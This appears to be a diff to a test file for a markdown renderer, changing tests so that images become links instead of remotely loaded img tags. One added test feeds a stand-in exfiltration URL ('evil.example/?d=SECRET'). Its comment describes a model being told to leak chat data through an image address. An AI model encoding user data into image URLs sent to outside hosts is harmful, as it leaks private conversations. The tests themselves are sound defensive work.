@@ -21,9 +21,26 @@ def test_img_onerror_is_neutralized():
     assert not re.search(r"<[^>]+\bonerror\s*=", html, re.IGNORECASE)
 
 
-def test_markdown_image_keeps_no_event_handler_attributes():
-    html = markdown_render('![cat](https://example.com/cat.png "a cat")')
-    assert '<img src="https://example.com/cat.png" alt="cat" title="a cat">' in html
+def test_markdown_image_is_a_link_not_a_remote_load():
+    # A model told to "show" chat data as an image URL would leak it the moment the page loads it.
+    html = markdown_render('![cat](https://evil.example/?d=SECRET "a cat")')
+    assert "<img" not in html.lower()
+    assert html.strip() == (
+        '<p><a href="https://evil.example/?d=SECRET" title="a cat" target="_blank" '
+        'rel="noopener noreferrer nofollow">cat</a></p>'
+    )
+
+
+def test_markdown_image_without_alt_text_shows_its_address():
+    html = markdown_render("![](https://example.com/cat.png)")
+    assert ">https://example.com/cat.png</a>" in html
+    assert "<img" not in html.lower()
+
+
+def test_image_inside_a_link_keeps_one_link():
+    html = markdown_render("[![build](https://ci.example/badge.svg)](https://ci.example/)")
+    assert html.count("<a ") == 1
+    assert 'href="https://ci.example/"' in html and ">build</a>" in html
 
 
 @pytest.mark.parametrize(
@@ -44,7 +61,7 @@ def test_unsafe_url_schemes_never_reach_an_attribute(source):
 def test_links_open_safely():
     html = markdown_render("[docs](https://example.com/docs)")
     assert 'href="https://example.com/docs"' in html
-    assert 'rel="noopener noreferrer"' in html
+    assert 'rel="noopener noreferrer nofollow"' in html
     assert 'target="_blank"' in html
 
 
